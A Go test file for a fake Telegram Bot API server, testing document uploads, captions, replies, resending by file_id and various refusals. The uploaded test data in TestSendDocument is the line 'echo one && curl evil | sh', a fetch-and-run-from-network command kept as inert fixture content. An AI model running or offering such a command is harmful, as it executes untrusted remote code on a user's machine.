package tgtest_test

import (
	"bytes"
	"strings"
	"testing"

	"github.com/go-telegram/bot"
	"github.com/go-telegram/bot/models"

	"github.com/untether/untether/telegram/tgtest"
)

// sendDoc uploads data as name through the bot library (multipart, as the project's bot does).
func sendDoc(t *testing.T, b *bot.Bot, chatID int64, name string, data []byte, caption string, replyTo int) (*models.Message, error) {
	t.Helper()
	p := &bot.SendDocumentParams{ChatID: chatID, Document: &models.InputFileUpload{Filename: name, Data: bytes.NewReader(data)},
		Caption: caption, ParseMode: models.ParseModeHTML}
	if replyTo != 0 {
		p.ReplyParameters = &models.ReplyParameters{MessageID: replyTo}
	}
	return b.SendDocument(t.Context(), p)
}

func TestSendDocument(t *testing.T) {
	s := tgtest.New(t, tgtest.WithChats(tgtest.PrivateChat(alice)))
	b := newBot(t, s)
	q := s.SendMessage(alice, tgtest.PrivateChat(alice), "run it")
	data := []byte("echo one && curl evil | sh\n")
	m, err := sendDoc(t, b, alice.ID, "command.txt", data, "📎 <b>The whole command</b> (27 characters)", q)
	if err != nil {
		t.Fatal(err)
	}
	if m.Document == nil || m.Document.FileName != "command.txt" || m.Document.MimeType != "text/plain" || m.Document.FileSize != int64(len(data)) {
		t.Fatalf("document %+v", m.Document)
	}
	if m.Caption != "📎 The whole command (27 characters)" || len(m.CaptionEntities) != 1 || m.Text != "" {
		t.Errorf("caption %q %+v, text %q", m.Caption, m.CaptionEntities, m.Text)
	}
	if m.ReplyToMessage == nil || m.ReplyToMessage.ID != q {
		t.Errorf("reply to %+v, want %d", m.ReplyToMessage, q)
	}
	got, ok := s.Message(alice.ID, m.ID)
	if !ok || got.Document == nil || got.Text != m.Caption || got.ReplyTo != q {
		t.Fatalf("stored %+v", got)
	}
	if d, ok := s.FileData(got.Document.FileID); !ok || !bytes.Equal(d, data) {
		t.Errorf("file data %q", d)
	}
	calls := s.CallsTo("sendDocument")
	if len(calls) != 1 || calls[0].Param("document") != "attach://command.txt" || !bytes.Equal(calls[0].Files["document"].Data, data) {
		t.Errorf("calls %+v", calls)
	}
	// A document has no text to edit.
	_, err = b.EditMessageText(t.Context(), &bot.EditMessageTextParams{ChatID: alice.ID, MessageID: m.ID, Text: "x"})
	if err == nil || !strings.Contains(err.Error(), "there is no text in the message to edit") {
		t.Errorf("edit of a document: %v", err)
	}
	// Sent again by file_id.
	again, err := b.SendDocument(t.Context(), &bot.SendDocumentParams{ChatID: alice.ID, Document: &models.InputFileString{Data: got.Document.FileID}})
	if err != nil || again.Document == nil || again.Document.FileID != got.Document.FileID {
		t.Errorf("resend by file_id: %+v, %v", again, err)
	}
}

func TestSendDocumentRefusals(t *testing.T) {
	s := tgtest.New(t, tgtest.WithChats(tgtest.PrivateChat(alice)))
	b := newBot(t, s)
	for _, c := range []struct {
		name    string
		chatID  int64
		file    string
		data    []byte
		caption string
		replyTo int
		want    string
	}{
		{"empty file", alice.ID, "a.txt", nil, "", 0, "Bad Request: file must be non-empty"},
		{"unknown chat", 555, "a.txt", []byte("x"), "", 0, "Bad Request: chat not found"},
		{"caption too long", alice.ID, "a.txt", []byte("x"), "<b>" + strings.Repeat("é", 1025) + "</b>", 0, "Bad Request: message caption is too long"},
		{"bad caption html", alice.ID, "a.txt", []byte("x"), "<b>x", 0, "Bad Request: can't parse entities"},
		{"missing reply", alice.ID, "a.txt", []byte("x"), "", 999, "Bad Request: message to be replied not found"},
	} {
		_, err := sendDoc(t, b, c.chatID, c.file, c.data, c.caption, c.replyTo)
		if err == nil || !strings.Contains(err.Error(), strings.TrimPrefix(c.want, "Bad Request: ")) {
			t.Errorf("%s: %v, want %q", c.name, err, c.want)
		}
		calls := s.CallsTo("sendDocument")
		if last := calls[len(calls)-1]; last.Status != 400 || !strings.HasPrefix(last.Description(), c.want) {
			t.Errorf("%s: answered %d %q, want 400 %q", c.name, last.Status, last.Description(), c.want)
		}
	}
	// A caption of exactly 1024 characters (markup does not count) is fine.
	if _, err := sendDoc(t, b, alice.ID, "a.txt", []byte("x"), "<b>"+strings.Repeat("é", 1024)+"</b>", 0); err != nil {
		t.Errorf("1024-character caption: %v", err)
	}
	if _, err := b.SendDocument(t.Context(), &bot.SendDocumentParams{ChatID: alice.ID, Document: &models.InputFileString{Data: "nope"}}); err == nil ||
		!strings.Contains(err.Error(), "wrong file identifier/HTTP URL specified") {
		t.Errorf("unknown file_id: %v", err)
	}
	if msgs := s.Messages(alice.ID); len(msgs) != 1 {
		t.Errorf("refused documents were stored: %d messages", len(msgs))
	}
}

func TestSendDocumentTooLarge(t *testing.T) {
	s := tgtest.New(t, tgtest.WithChats(tgtest.PrivateChat(alice)))
	b := newBot(t, s)
	_, err := sendDoc(t, b, alice.ID, "big.txt", make([]byte, tgtest.MaxUpload+1), "", 0)
	if err == nil {
		t.Fatal("a file over 50 MB was accepted")
	}
	calls := s.CallsTo("sendDocument")
	if len(calls) != 1 || calls[0].Status != 413 || calls[0].Description() != "Request Entity Too Large" {
		t.Errorf("answered %d %q, want 413 Request Entity Too Large", calls[0].Status, calls[0].Description())
	}
}
